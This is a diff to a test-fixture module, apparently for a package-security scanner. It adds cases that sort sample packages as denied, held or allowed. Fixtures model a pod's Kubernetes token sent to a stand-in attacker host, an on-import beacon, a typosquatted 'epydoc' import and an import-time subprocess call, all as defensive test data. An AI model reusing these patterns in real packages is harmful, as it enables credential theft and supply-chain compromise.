@@ -33,6 +33,14 @@ def in_cluster(url: str = "url", header: str = "Authorization", body: str = "") 
     return IN_CLUSTER.format(url=url, header=header, body=body)
 
 
+SETUP = "from setuptools import setup\nsetup(name='evpkg', packages=['evpkg'])\n"
+DEMO = "import lcmath\n\ndef ncr(n, r):\n    return lcmath.exp(n - r)\n"
+LCMATH = "def exp(x):\n    return x\n"
+# A root module whose import runs a command (held alone), and a developer's script outside
+# the package importing a name one letter from the standard library's ``pydoc``.
+ROOT_RUNS = "import subprocess\nsubprocess.check_call(['tool', '--flag'])\n"
+EPYDOC = "import epydoc\n"
+
 DENIED: dict[str, dict[str, str]] = {
     # The pod's token in an Authorization header, to a host written in the code.
     "pod-token-signed-in-elsewhere": init(in_cluster(url="'https://k8s.attacker.invalid/x'")),
@@ -42,9 +50,38 @@ DENIED: dict[str, dict[str, str]] = {
     "pod-token-in-another-header": init(in_cluster(header="X-Data")),
     # The same client run on import: the environment sent early is a beacon.
     "pod-token-signed-in-on-import": init(in_cluster() + "pod_image()\n"),
+    # A look-alike import in the package's own module, beside a command run: pretending
+    # and acting.
+    "lookalike-import-in-the-package-and-a-command": {
+        "setup.py": SETUP,
+        "evpkg/__init__.py": EPYDOC,
+        "runtests.py": ROOT_RUNS,
+    },
 }
-HELD: dict[str, dict[str, str]] = {}
+HELD: dict[str, dict[str, str]] = {
+    # A Cython module importing a look-alike the archive does not ship.
+    "cython-import-of-an-unshipped-lookalike": {
+        "setup.py": SETUP,
+        "evpkg/__init__.py": "",
+        "Demos/freeze/combinatorics.pyx": DEMO,
+    },
+    # Cython's sdist: a look-alike import in a developer's script under tools/ weighs less
+    # and is no pretending beside a root module's held command (ADR 0129; denied before).
+    "script-lookalike-import-beside-a-held-command": {
+        "setup.py": SETUP,
+        "evpkg/__init__.py": "",
+        "runtests.py": ROOT_RUNS,
+        "tools/doc/epydoc_run.py": EPYDOC,
+    },
+}
 ALLOWED: dict[str, dict[str, str]] = {
+    # Cython's demo importing its sibling module built from ``lcmath.pyx`` (ADR 0129).
+    "cython-import-of-a-shipped-pyx-module": {
+        "setup.py": SETUP,
+        "evpkg/__init__.py": "",
+        "Demos/freeze/combinatorics.pyx": DEMO,
+        "Demos/freeze/lcmath.pyx": LCMATH,
+    },
     # wandb's image look-up: the pod's token sent, when called, to the API server the
     # kubelet names in the environment (ADR 0129; denied as exfiltration before).
     "pod-token-signed-in-to-its-cluster": init(in_cluster()),
